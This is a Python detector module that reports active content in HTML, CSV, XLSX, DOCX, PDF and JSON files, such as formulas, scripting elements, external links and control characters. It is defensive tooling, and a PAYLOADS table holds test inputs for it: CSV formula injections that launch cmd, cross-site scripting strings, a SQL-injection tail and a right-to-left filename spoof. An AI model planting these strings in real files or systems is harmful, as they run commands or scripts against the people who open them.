"""Says what in a file could act: a formula, an element of a page, a character that is no text."""

import csv
import io
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from xml.etree import ElementTree

from openpyxl import load_workbook
from support.page import read

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
ACTING = {"script", "img", "iframe", "object", "embed", "form", "base", "link", "meta"}
A_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

PAYLOADS = {
    "a formula": "=HYPERLINK(\"http://zebra.example/\"&A1,\"zebra\")",
    "a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C zebra'!A0",
    "a script": "<script>alert('zebra')</script>",
    "an element": "\"><img src=x onerror=\"alert('zebra')\"><b>",
    "an address": "[zebra](javascript:alert(1)) $$zebra$$ {{ zebra }} {% zebra %}",
    "control characters": "zebra\x00\x07\x1b[31m\x7f\x85\u2028\ufffe end",
    "turns of direction": "zebra \u202egnp.exe\u2066 \u200f\u061c end",
    "entities": "&lt;zebra&gt; &#60;script&#62; ]]> <!-- zebra -->",
    "nothing but signs": "-- .. --",
    "half a letter": "zebra \ud800 end",
    "a template": "${zebra} `zebra` %s %n \\u0000 ' OR 1=1; --",
}  # fmt: skip


def acts(name: str, content: bytes) -> list[str]:
    """Return what could act in a file, by the ending of its name; nothing where it is inert."""
    check = {
        "html": _page, "csv": _csv, "xlsx": _workbook, "docx": _word, "pdf": _pdf, "json": _plain,
    }[name.rsplit(".", 1)[-1]]  # fmt: skip
    return [f"{name}: {fault}" for fault in check(content)]


def _characters(text: str) -> Iterator[str]:
    for character in sorted(set(text) - {"\n"}):
        if unicodedata.category(character) in {"Cc", "Cf", "Cs", "Cn", "Co"}:
            yield f"holds U+{ord(character):04X}"


def _page(content: bytes) -> Iterator[str]:
    text = content.decode()
    yield from _characters(text)
    tree = read(text)
    for tag in tree.all():
        if tag.name in ACTING - {"meta"}:
            yield f"holds <{tag.name}>"
        for attribute, value in tag.given.items():
            if attribute.startswith("on"):
                yield f"runs {attribute}"
            if attribute in {"href", "src"} and ":" in str(value).split("/")[0]:
                yield f"leads to {value}"


def _csv(content: bytes) -> Iterator[str]:
    text = content.decode("utf-8-sig")
    yield from _characters(text)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULAS) and not A_NUMBER.fullmatch(cell):
                yield f"a cell begins with {cell[0]}"


def _workbook(content: bytes) -> Iterator[str]:
    yield from _parts(content)
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield f"{sheet.title} {cell.coordinate} is a formula"
                if cell.hyperlink and cell.hyperlink.target:
                    yield f"{sheet.title} {cell.coordinate} leads to {cell.hyperlink.target}"


def _word(content: bytes) -> Iterator[str]:
    yield from _parts(content)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            if name.endswith(".rels") and b'TargetMode="External"' in parts.read(name):
                yield f"{name} leads outside"
        body = parts.read("word/document.xml").decode()
    for field in re.findall(r"<w:instrText[^>]*>([^<]*)|w:fldSimple w:instr=\"([^\"]*)", body):
        yield f"a field: {field}"


def _parts(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            if name.endswith((".xml", ".rels")):
                tree = ElementTree.fromstring(parts.read(name))
                yield from (f"{name} {c}" for c in _characters("".join(tree.itertext())))
            if "vba" in name.lower() or "embed" in name.lower():
                yield f"holds {name}"


def _pdf(content: bytes) -> Iterator[str]:
    for found in re.findall(rb"/(JavaScript|JS|Launch|EmbeddedFile|SubmitForm|URI)\b", content):
        yield f"holds {found.decode()}"


def _plain(content: bytes) -> Iterator[str]:
    yield from _characters(content.decode())
